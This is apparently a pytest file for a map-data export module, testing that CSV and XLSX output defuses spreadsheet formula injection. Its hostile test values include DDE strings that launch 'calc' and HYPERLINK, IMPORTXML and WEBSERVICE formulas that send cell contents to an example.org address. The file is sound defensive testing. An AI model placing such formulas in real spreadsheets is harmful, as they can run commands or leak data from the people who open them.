"""No text of a file for spreadsheets is a formula, whatever it begins with, and no number is a text."""

import csv
import io
from itertools import product
from pathlib import Path
from typing import Any, Final

import openpyxl
import pyarrow as pa
import pytest

from gis.point_files_out import OutRefusedError
from gis.spreadsheets import as_it_was, defused, fits_excel
from grids.language import Language, Words
from maps.export import ENDINGS, Export, write
from tests.security.payloads import PAYLOADS

_STARTS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_FORMULAS: Final = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org?"&A1,"东村")',
    "SUM(A1:A9)*cmd|'/c calc'!A1",
    'IMPORTXML(CONCAT("http://example.org?",A1),"//a")',
    'WEBSERVICE("http://example.org/"&A1)',
    "DDE(\"cmd\";\"/C calc\";\"a\")",
    "东村第一网格",
    '"quoted", and ''\' more;\n=2+2',
    "",
)  # fmt: skip
HOSTILE: Final = (
    *(start + formula for start, formula in product(_STARTS, _FORMULAS)),
    *(start + more + "1+1" for start, more in product(_STARTS, _STARTS)),
    # Errors, numbers, dates and links are what Excel makes of texts without being asked.
    *("#N/A", "#REF!", "007", "1e5", "2026-01-01", "TRUE", "http://example.org", "'=1+1", "_x003D_1+1", " =1+1"),
    *(payload.replace("\0", "") for payload in PAYLOADS),
)
FORMULA_SIGNS: Final = tuple(_STARTS)


def hostile(lang: Language = "zh") -> Export:
    """An export in which every name and note is hostile."""
    count = len(HOSTILE)
    table = pa.table(
        {
            "code": pa.array([f"{n:05}" for n in range(count)]),
            "name": pa.array(HOSTILE),
            "count": pa.array([None if n % 3 == 0 else -n for n in range(count)], pa.int64()),
            "change": pa.array([-0.5 * n for n in range(count)]),
            "told": pa.array(["few"] * count),
            "source": pa.array(reversed(HOSTILE)),
        }
    )
    about = [("means", text) for text in HOSTILE]
    return Export("hostile", table, "Polygon", {"told": {"few": "=不公开"}}, about, Words(lang, ("grids", "maps")))


def read(path: Path) -> tuple[list[Any], list[list[Any]]]:
    """Headings and rows of the table, as a program that reads such files gets them."""
    if path.suffix == ".csv":
        text = path.read_bytes().decode("utf-8-sig")
        header, *lines = csv.reader(io.StringIO(text, newline=""))
        return header, lines
    sheet = openpyxl.load_workbook(path).worksheets[0]
    header, *cells = sheet.iter_rows()
    for row in cells:
        assert [cell.data_type for cell in row if cell.value is not None] == [
            "n" if isinstance(cell.value, int | float) else "s" for cell in row if cell.value is not None
        ]
    return [cell.value for cell in header], [[cell.value for cell in row] for row in cells]


def one_line_end(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_there_are_enough_of_them() -> None:
    assert len(set(HOSTILE)) >= 250


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
def test_no_text_is_a_formula_and_none_is_lost(tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"hostile{ending}"
    write(hostile(), path)
    header, found = read(path)
    assert header == ["编码", "名称", "数量", "变化", "数字说明", "边界来源"]
    assert len(found) == len(HOSTILE)
    for text, source, row in zip(HOSTILE, reversed(HOSTILE), found, strict=True):
        for wanted, cell in ((text, row[1]), (source, row[5]), ("=不公开", row[4])):
            assert not str(cell or "").startswith(FORMULA_SIGNS), (wanted, cell)
            dangerous = wanted.startswith(FORMULA_SIGNS)
            written = f"'{wanted}" if dangerous else wanted
            # XML has one line end.
            assert one_line_end(str(cell or "")) == one_line_end(written), wanted


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
def test_numbers_stay_numbers_and_codes_texts(tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"hostile{ending}"
    write(hostile(), path)
    for n, row in enumerate(read(path)[1]):
        assert row[0] == f"{n:05}"
        assert (row[2] in ("", None)) == (n % 3 == 0)
        if n % 3:
            assert float(row[2]) == -n
        assert float(row[3]) == -0.5 * n
        if ending == ".xlsx":
            assert isinstance(row[3], int | float)


def test_the_second_sheet_is_no_formula_either(tmp_path: Path) -> None:
    path = tmp_path / "hostile.xlsx"
    write(hostile("en"), path)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Data", "About"]
    cells = [row[1] for row in book.worksheets[1].iter_rows()]
    assert len(cells) == len(HOSTILE)
    assert not any(str(cell.value or "").startswith(FORMULA_SIGNS) for cell in cells)
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}


def test_signs_that_xml_has_no_room_for(tmp_path: Path) -> None:
    table = pa.table({"name": pa.array(["东\x08村\x1b", "长" * 40_000])})
    path = tmp_path / "odd.xlsx"
    write(Export("odd", table, "Polygon", {}, [], Words("zh", ("grids", "maps"))), path)
    assert [len(row[0]) for row in read(path)[1]] == [4, 32_767]
    assert read(path)[1][0] == ["东\ufffd村\ufffd"]


def test_what_was_defused_can_be_had_again() -> None:
    texts = pa.array(HOSTILE)
    once = defused(texts)
    assert defused(once).equals(once)
    # But for what had the apostrophe before.
    assert [a for a, b in zip(as_it_was(once).to_pylist(), HOSTILE, strict=True) if a != b] == ["=1+1"]


def test_an_excel_sheet_has_an_end() -> None:
    assert fits_excel(1_048_575)
    assert not fits_excel(1_048_576)


@pytest.mark.parametrize("ending", ENDINGS)
def test_a_file_is_whole_or_as_it_was(tmp_path: Path, ending: str, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / f"a{ending}"
    path.write_bytes(b"as it was")

    def full(*_: object, **__: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("gis.spreadsheets.pyarrow.csv.write_csv", full)
    monkeypatch.setattr("openpyxl.workbook.workbook.Workbook.save", full)
    monkeypatch.setattr("gis.point_files_out.pyogrio.write_arrow", full)
    monkeypatch.setattr("gis.point_files_out.pa.parquet.ParquetWriter.write_batch", full)
    table = pa.table({"name": pa.array(["东村"]), "geometry": pa.array([None], pa.binary())})
    with pytest.raises(OutRefusedError, match="No space left"):
        write(Export("a", table, "Polygon", {}, [], Words("zh", ("grids", "maps"))), path)
    assert path.read_bytes() == b"as it was"
    assert list(tmp_path.iterdir()) == [path]


@pytest.mark.parametrize("name", ["a.shp", "a", "a.xls", "a.geojson"])
def test_another_ending_is_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(OutRefusedError, match=r"\.csv, \.xlsx, \.gpkg, \.parquet"):
        write(hostile(), tmp_path / name)
